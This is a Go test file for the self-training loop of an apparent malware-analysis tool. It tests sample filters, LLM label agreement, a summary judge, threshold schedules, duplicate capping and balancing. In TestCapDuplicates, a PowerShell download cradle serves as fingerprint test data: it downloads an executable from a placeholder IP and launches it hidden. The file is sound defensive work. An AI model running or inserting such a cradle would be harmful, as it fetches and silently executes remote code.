package loop

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/automaldesc/automaldesc/analysis"
	"github.com/automaldesc/automaldesc/analysis/indicators"
	"github.com/automaldesc/automaldesc/analysis/lang"
	"github.com/automaldesc/automaldesc/analysis/verdict"
	"github.com/automaldesc/automaldesc/learning"
	"github.com/automaldesc/automaldesc/learning/dataset"
)

// fakeDecider returns a fixed verdict.
type fakeDecider struct{ v analysis.Verdict }

func (f fakeDecider) DecideWith(*verdict.Model, *analysis.Report, map[string]float64) analysis.Verdict {
	return f.v
}

// fakeExplainer returns a fixed explanation.
type fakeExplainer struct {
	x   analysis.Explanation
	err error
}

func (f fakeExplainer) Explain(context.Context, *analysis.Report) (analysis.Explanation, error) {
	return f.x, f.err
}

// fakeLLM labels malicious except at the temperatures listed in dissent.
type fakeLLM struct {
	dissent map[float64]bool
	err     error
}

func (f fakeLLM) Label(_ context.Context, _ *analysis.Report, t float64) (verdict.Label, float64, error) {
	if f.err != nil {
		return verdict.Unknown, 0, f.err
	}
	if f.dissent[t] {
		return verdict.Benign, 0.7, nil
	}
	return verdict.Malicious, 0.9, nil
}

func (f fakeLLM) JudgeSummary(context.Context, string) (verdict.Label, error) {
	return verdict.Malicious, nil
}

func explanation(claims ...analysis.Claim) analysis.Explanation {
	texts := make([]string, len(claims))
	for i, c := range claims {
		texts[i] = c.Text
	}
	return analysis.Explanation{Summary: strings.Join(texts, " "), Source: "offline", Claims: claims}
}

var (
	malText = explanation(
		analysis.Claim{Text: "This is a short PowerShell script.", Evidence: []string{"language:powershell"}},
		analysis.Claim{Text: "It downloads a payload with Net.WebClient and launches it hidden (T1105).", Evidence: []string{"ps.download"}},
		analysis.Claim{Text: "Verdict: malicious (model score 0.99), driven mainly by \"Download cradle\" (high).", Evidence: []string{"verdict", "ps.download"}},
	)
	benText = explanation(
		analysis.Claim{Text: "This is a short PowerShell script.", Evidence: []string{"language:powershell"}},
		analysis.Claim{Text: "No malicious behaviour was found: nothing in it matched a download cradle, persistence or a reverse shell.", Evidence: []string{"verdict"}},
		analysis.Claim{Text: "Verdict: benign (model score 0.02): the behaviour indicators ran over one layer without a single finding.", Evidence: []string{"verdict"}},
	)
)

func malReport() *analysis.Report {
	return &analysis.Report{
		Status:     analysis.StatusOK,
		Language:   lang.Result{Language: lang.PowerShell, Confidence: 1},
		Layers:     []analysis.Layer{{Index: 0, Parent: -1, Method: "original"}},
		Indicators: []indicators.Hit{{ID: "ps.download", Title: "Download cradle", Severity: indicators.SeverityHigh, Techniques: []string{"T1105"}}},
		Techniques: []analysis.Technique{{ID: "T1105", Evidence: []string{"ps.download"}}},
		Features:   map[string]float64{},
	}
}

func benReport() *analysis.Report {
	r := malReport()
	r.Indicators, r.Techniques = nil, nil
	return r
}

func sample(r *analysis.Report) *Sample {
	return &Sample{Observation: learning.Observation{Report: r, Input: map[string]float64{"x": 1}}}
}

func th(lang.Language) verdict.Thresholds { return verdict.DefaultThresholds() }

func TestCheckFilters(t *testing.T) {
	mal := analysis.Verdict{Label: verdict.Malicious, Score: 0.99, Source: "model"}
	ben := analysis.Verdict{Label: verdict.Benign, Score: 0.02, Source: "model"}
	skipped := benReport()
	skipped.Status, skipped.Reason = analysis.StatusSkipped, "binary"
	unknownLang := malReport()
	unknownLang.Language.Language = lang.Unknown
	ungrounded := explanation(analysis.Claim{Text: "It contacts hxxp://203.0.113[.]9/x (T1071.001).", Evidence: []string{"ps.beacon"}})
	tests := []struct {
		name   string
		s      *Sample
		v      analysis.Verdict
		x      fakeExplainer
		llm    LLMView
		th     float64
		want   string
		wantLb dataset.Label
	}{
		{name: "malicious kept", s: sample(malReport()), v: mal, x: fakeExplainer{x: malText}, th: 0.95, wantLb: dataset.Malicious},
		{name: "benign kept", s: sample(benReport()), v: ben, x: fakeExplainer{x: benText}, th: 0.95, wantLb: dataset.Benign},
		{name: "analysis error", s: &Sample{Observation: learning.Observation{Err: errors.New("read: boom")}}, v: mal, x: fakeExplainer{x: malText}, th: 0.5, want: FilterMalformed},
		{name: "skipped report", s: sample(skipped), v: ben, x: fakeExplainer{x: benText}, th: 0.5, want: FilterMalformed},
		{name: "no model input", s: &Sample{Observation: learning.Observation{Report: malReport()}}, v: mal, x: fakeExplainer{x: malText}, th: 0.5, want: FilterMalformed},
		{name: "unknown language", s: sample(unknownLang), v: mal, x: fakeExplainer{x: malText}, th: 0.5, want: FilterMalformed},
		{name: "unknown verdict", s: sample(malReport()), v: analysis.Verdict{Label: verdict.Unknown}, x: fakeExplainer{x: malText}, th: 0.5, want: FilterMalformed},
		{name: "explainer fails", s: sample(malReport()), v: mal, x: fakeExplainer{err: errors.New("llm down")}, th: 0.5, want: FilterMalformed},
		{name: "empty explanation", s: sample(malReport()), v: mal, x: fakeExplainer{}, th: 0.5, want: FilterMalformed},
		{name: "ungrounded explanation", s: sample(malReport()), v: mal, x: fakeExplainer{x: ungrounded}, th: 0.5, want: FilterGrounding},
		{name: "not confident enough", s: sample(malReport()), v: analysis.Verdict{Label: verdict.Malicious, Score: 0.9, Source: "model"}, x: fakeExplainer{x: malText}, th: 0.95, want: FilterConfidence},
		{name: "relaxed threshold admits it", s: sample(malReport()), v: analysis.Verdict{Label: verdict.Malicious, Score: 0.9, Source: "model"}, x: fakeExplainer{x: malText}, th: 0.85, wantLb: dataset.Malicious},
		{name: "rules view disagrees", s: sample(benReport()), v: mal, x: fakeExplainer{x: explanation(analysis.Claim{Text: "It downloads and launches a payload hidden.", Evidence: []string{"verdict"}})}, th: 0.5, want: FilterViews},
		{name: "summary incoherent", s: sample(malReport()), v: mal, x: fakeExplainer{x: explanation(analysis.Claim{Text: "A PowerShell script; nothing in it matched a download cradle.", Evidence: []string{"ps.download"}})}, th: 0.5, want: FilterCoherence},
		{name: "llm agrees at every temperature", s: sample(malReport()), v: mal, x: fakeExplainer{x: malText}, llm: fakeLLM{}, th: 0.5, wantLb: dataset.Malicious},
		{name: "llm dissents at 0.8", s: sample(malReport()), v: mal, x: fakeExplainer{x: malText}, llm: fakeLLM{dissent: map[float64]bool{0.8: true}}, th: 0.5, want: FilterLLM},
		{name: "llm fails", s: sample(malReport()), v: mal, x: fakeExplainer{x: malText}, llm: fakeLLM{err: errors.New("timeout")}, th: 0.5, want: FilterLLM},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			c := Checker{Decider: fakeDecider{tc.v}, Explainer: tc.x, Thresholds: th, LLM: tc.llm, Temperatures: []float64{0.4, 0.6, 0.8}}
			got := c.Check(t.Context(), nil, tc.s, tc.th)
			if got.Rejected != tc.want {
				t.Fatalf("rejected by %q (%s), want %q", got.Rejected, got.Why, tc.want)
			}
			if tc.want == "" && got.Label != tc.wantLb {
				t.Errorf("label: got %q, want %q", got.Label, tc.wantLb)
			}
			if tc.s.Report != nil && tc.s.Report.Verdict.Label != verdict.Unknown {
				t.Errorf("Check changed the sample's own report")
			}
		})
	}
}

func TestOfflineJudge(t *testing.T) {
	tests := []struct {
		name, summary string
		want          verdict.Label
	}{
		{"behaviour story", malText.Summary, verdict.Malicious},
		{"critical finding", "A VBScript file. Verdict: malicious (model score 1.00), driven mainly by \"Shellcode runner\" (critical).", verdict.Malicious},
		{"clean statement with denied behaviours", benText.Summary, verdict.Benign},
		{"routine admin script", "A Batch file. Its apparent purpose is routine work: it copies log files. Verdict: benign (model score 0.10).", verdict.Benign},
		{"model only, nothing named", "A tiny shell script. No indicator or YARA rule matched, so no concrete behaviour can be named. Verdict: malicious (model score 0.99).", verdict.Unknown},
		{"label word alone does not count", "This is malicious. Definitely malicious malware.", verdict.Unknown},
		{"empty", "", verdict.Unknown},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, err := OfflineJudge{}.JudgeSummary(t.Context(), tc.summary)
			if err != nil || got != tc.want {
				t.Errorf("got (%s, %v), want (%s, nil)", got, err, tc.want)
			}
		})
	}
}

func TestMaskVerdict(t *testing.T) {
	got := MaskVerdict("Verdict: Malicious; not benign, not SUSPICIOUS malware.")
	if want := "Verdict: [label]; not [label], not [label] [label]."; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestSchedule(t *testing.T) {
	s := DefaultSchedule()
	for round, want := range map[int]float64{0: 0.95, 1: 0.95, 2: 0.90, 3: 0.85, 4: 0.80, 5: 0.80, 50: 0.80} {
		if got := s.Threshold(round); got != want {
			t.Errorf("round %d: got %g, want %g", round, got, want)
		}
	}
	for name, bad := range map[string]Schedule{
		"floor above start": {Start: 0.8, Step: 0.1, Floor: 0.9},
		"start above 1":     {Start: 1.2, Step: 0.1, Floor: 0.9},
		"negative step":     {Start: 0.9, Step: -0.1, Floor: 0.8},
		"floor below 0.5":   {Start: 0.9, Step: 0.1, Floor: 0.3},
	} {
		if err := bad.Validate(); err == nil {
			t.Errorf("%s: Validate accepted %+v", name, bad)
		}
	}
	if err := s.Validate(); err != nil {
		t.Errorf("default schedule: %v", err)
	}
}

func cand(lang string, label dataset.Label, conf float64, p Fingerprint, sha string) *Candidate {
	s := &Sample{Print: p}
	s.Item.Language, s.Item.SHA256 = lang, sha
	return &Candidate{Sample: s, Label: label, Confidence: conf}
}

func TestCapDuplicates(t *testing.T) {
	a := FingerprintOf([]byte("$c = New-Object Net.WebClient\n$c.DownloadFile('http://203.0.113.7/a.exe', \"$env:TEMP\\a.exe\")\nStart-Process \"$env:TEMP\\a.exe\" -WindowStyle Hidden\n# campaign 1 build 17\n"))
	b := FingerprintOf([]byte("$C = New-Object Net.WebClient\r\n$C.DownloadFile('http://203.0.113.8/a.exe',   \"$env:TEMP\\a.exe\")\nStart-Process \"$env:TEMP\\a.exe\" -WindowStyle Hidden\n# campaign 1 build 18\n"))
	other := FingerprintOf([]byte("Get-ChildItem C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item -WhatIf\n"))
	if a.Exact != b.Exact {
		t.Fatalf("normalised hashes differ for a case, whitespace and digit variant")
	}
	if d := SimDistance(a.Sim, other.Sim); d <= 3 {
		t.Fatalf("unrelated scripts are %d bits apart, want > 3", d)
	}
	cs := []*Candidate{
		cand("powershell", dataset.Malicious, 0.99, a, "1"),
		cand("powershell", dataset.Malicious, 0.98, b, "2"),
		cand("powershell", dataset.Malicious, 0.97, Fingerprint{Exact: 7, Sim: a.Sim ^ 0b101}, "3"), // 2 bits off: same family
		cand("powershell", dataset.Malicious, 0.96, other, "4"),
		cand("powershell", dataset.Benign, 0.96, a, "5"), // other label: its own group
	}
	CapDuplicates(cs, 2, 3)
	want := []string{"", "", FilterDuplicate, "", ""}
	for i, c := range cs {
		if c.Rejected != want[i] {
			t.Errorf("candidate %d: rejected %q, want %q", i, c.Rejected, want[i])
		}
	}
}

func TestBalance(t *testing.T) {
	var cs []*Candidate
	for i := range 10 {
		cs = append(cs, cand("bash", dataset.Malicious, 0.99-float64(i)/100, Fingerprint{}, string(rune('a'+i))))
	}
	for i := range 2 {
		cs = append(cs, cand("bash", dataset.Benign, 0.99, Fingerprint{}, string(rune('A'+i))))
	}
	base := map[string]map[dataset.Label]int{"bash": {dataset.Malicious: 3, dataset.Benign: 3}}
	Balance(cs, base, 2)
	var mal, ben int
	for _, c := range cs {
		if c.Rejected != "" {
			if c.Rejected != FilterBalance {
				t.Errorf("rejected by %q, want %q", c.Rejected, FilterBalance)
			}
			continue
		}
		if c.Label == dataset.Malicious {
			mal++
		} else {
			ben++
		}
	}
	// 3+2 benign in all allow at most 10 malicious: 3 seeds + 7 pseudo.
	if ben != 2 || mal != 7 {
		t.Errorf("kept %d malicious and %d benign, want 7 and 2", mal, ben)
	}
	for i, c := range cs[:7] {
		if c.Rejected != "" {
			t.Errorf("the %d-th most confident malicious candidate was dropped before a less confident one", i)
		}
	}
}
